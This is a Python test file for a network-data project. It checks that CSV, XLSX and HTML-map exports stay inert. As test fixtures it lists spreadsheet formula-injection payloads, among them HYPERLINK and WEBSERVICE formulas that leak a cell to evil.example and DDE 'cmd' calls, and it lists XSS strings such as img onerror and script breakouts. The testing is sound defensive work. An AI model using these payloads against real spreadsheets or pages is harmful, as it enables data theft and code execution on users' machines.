"""Exports opened by someone else stay inert: no spreadsheet formula, no live HTML."""

from __future__ import annotations

import csv
import io
import itertools
import zipfile
from pathlib import Path

import networkx as nx
import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from maillage.ground.tables import organizations_frame, ties_frame
from maillage.loaders.export import neutralize_formula, write_csv_workbook, write_xlsx_workbook

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '=WEBSERVICE("http://evil.example/"&A2)',
]


def hostile_workbook(values: list[str]) -> tuple[object, object]:
    """Organizations and ties whose every text field, and property names, are ``values``."""
    orgs = organizations_frame(
        [
            {
                "id": f"{value}#{k}",
                "name": value,
                "type": "enterprise",
                "city": value,
                "tags": value,
                "website": value,
                "properties": {value or "empty": value, f"p{k}": value},
            }
            for k, value in enumerate(values)
        ]
    )
    ids = list(orgs["id"])
    ties = ties_frame(
        [
            {"source": a, "target": b, "type": "partner", "note": value, "source_ref": value}
            for a, b, value in zip(ids, ids[1:], values, strict=False)
        ]
    )
    return orgs, ties


def looks_like_formula(text: str) -> bool:
    stripped = text.lstrip(" ")
    if not stripped.startswith(FORMULA_STARTS):
        return False
    try:
        float(text)
    except ValueError:
        return True
    return False


def assert_xlsx_inert(path: Path) -> None:
    book = openpyxl.load_workbook(path)  # not read-only: data_type is known for every cell
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not looks_like_formula(cell.value), (cell.coordinate, cell.value)
    # And in the raw XML: no <f> (formula) element anywhere.
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def assert_csv_inert(folder: Path) -> None:
    for path in folder.glob("*.csv"):
        # Bytes decoded by hand: read_text would turn a bare CR into a line end and hide it.
        for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")):
            for cell in row:
                assert not looks_like_formula(cell), (path.name, cell)


def test_hostile_cells_and_headers_are_inert_in_xlsx(tmp_path):
    orgs, ties = hostile_workbook(HOSTILE)
    path = write_xlsx_workbook(orgs, ties, tmp_path / "out.xlsx")  # type: ignore[arg-type]
    assert_xlsx_inert(path)


def test_hostile_cells_and_headers_are_inert_in_csv(tmp_path):
    orgs, ties = hostile_workbook(HOSTILE)
    write_csv_workbook(orgs, ties, tmp_path / "csv")  # type: ignore[arg-type]
    assert_csv_inert(tmp_path / "csv")


def test_inert_text_keeps_what_was_written_after_the_apostrophe(tmp_path):
    orgs, ties = hostile_workbook(HOSTILE)
    write_csv_workbook(orgs, ties, tmp_path / "csv")  # type: ignore[arg-type]
    names = [
        row["name"]
        for row in csv.DictReader(
            io.StringIO(
                (tmp_path / "csv" / "organizations.csv").read_bytes().decode("utf-8"), newline=""
            )
        )
    ]
    assert sorted(n.removeprefix("'") for n in names) == sorted(HOSTILE)


def test_a_bare_carriage_return_cannot_start_a_new_row(tmp_path):
    orgs, ties = hostile_workbook(["'\r=1+1", "a\r=2+2"])
    write_csv_workbook(orgs, ties, tmp_path / "csv")  # type: ignore[arg-type]
    raw = (tmp_path / "csv" / "organizations.csv").read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert len(rows) == 3  # header and two organizations: no row split at the CR
    assert_csv_inert(tmp_path / "csv")


@pytest.mark.parametrize("number", ["-73.5", "+1", "-0", "1e5", "-1.5e-3"])
def test_numbers_are_not_touched(number):
    assert neutralize_formula(number) == number


@settings(
    max_examples=150,
    derandomize=True,
    database=None,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    st.lists(
        st.one_of(
            st.sampled_from(HOSTILE),
            st.text(
                alphabet=st.characters(blacklist_categories=["Cs", "Cc"])
                | st.sampled_from("=+-@ "),
                max_size=20,
            ),
        ),
        min_size=1,
        max_size=5,
        unique=True,
    )
)
def test_any_text_exports_inert(tmp_path, values):
    orgs, ties = hostile_workbook(values)
    folder = tmp_path / "any"
    write_csv_workbook(orgs, ties, folder)  # type: ignore[arg-type]
    assert_csv_inert(folder)
    path = write_xlsx_workbook(orgs, ties, tmp_path / "any.xlsx")  # type: ignore[arg-type]
    assert_xlsx_inert(path)


# --- the HTML map -------------------------------------------------------------------------------

HTML_HOSTILE = [
    "</script><script>alert('name')</script>",
    "<img src=x onerror=alert('img')>",
    '"><svg onload=alert(1)>',
    "<!--",
    "]]>&amp;&lt;",
    "javascript:alert(1)",
    "\u2028\u2029",
]


def map_page(names: list[str], **options: object) -> str:
    network_map = pytest.importorskip("maillage.loaders.html_map")
    G = nx.Graph()
    for k, name in enumerate(names):
        G.add_node(f"{name}#{k}", name=name, type=name, region=name, city=name, country=name)
    nodes = list(G)
    G.add_edges_from(itertools.pairwise(nodes), types=tuple(names[:2]))
    return network_map.graph_html(
        G,
        positions={v: (float(k), 0.0) for k, v in enumerate(nodes)},
        colours={names[0]: "#123456"},
        legend={names[0]: names[0]},
        focus=nodes[0],
        path=nodes[:2],
        **options,
    )


def test_html_map_never_lets_a_name_become_markup():
    benign = map_page([f"Org {k}" for k in range(len(HTML_HOSTILE))], title="T")
    hostile = map_page(HTML_HOSTILE, title=HTML_HOSTILE[0])
    for value in HTML_HOSTILE[:4]:
        assert value not in hostile
    # The page's structure is the same as with harmless names: no element was smuggled in.
    # ("onerror=" may appear, harmlessly, inside a JSON string whose "<" is escaped.)
    for token in ("<script", "</script", "<img", "<svg", "<!--", "<html", "<body"):
        assert hostile.count(token) == benign.count(token), token


def test_html_map_escapes_tooltips_and_labels():
    page = map_page(["Plain", "Other"], tooltips={"Plain#0": HTML_HOSTILE[1]})
    assert HTML_HOSTILE[1] not in page
    assert "textContent" in page  # tooltips are inserted as text, never as HTML


# --- characters XML cannot hold -----------------------------------------------------------------

CONTROL_NAMES = ["Coop\x0bL'Éveil", "Réseau\x01\x1f", "Fonds\ufffe", "Tab\tand\nnewline", "Del\x7f"]


def test_control_characters_do_not_break_xlsx_or_graphml(tmp_path):
    from maillage.loaders.export import write_graphml
    from maillage.loaders.validate import validate
    from maillage.loaders.workbook import read_tables

    orgs, ties = hostile_workbook(CONTROL_NAMES)
    xlsx = write_xlsx_workbook(orgs, ties, tmp_path / "c.xlsx")  # type: ignore[arg-type]
    graphml = write_graphml(orgs, ties, tmp_path / "c.graphml")  # type: ignore[arg-type]
    for path in (xlsx, graphml):
        checked = validate(read_tables([path]))
        assert not checked.problems, checked.problems[:3]
        names = sorted(org["name"] for org in checked.organizations)
        assert names == sorted(
            "".join(c for c in name if c in "\t\n\x7f" or (ord(c) >= 32 and c != "\ufffe"))
            for name in CONTROL_NAMES
        )
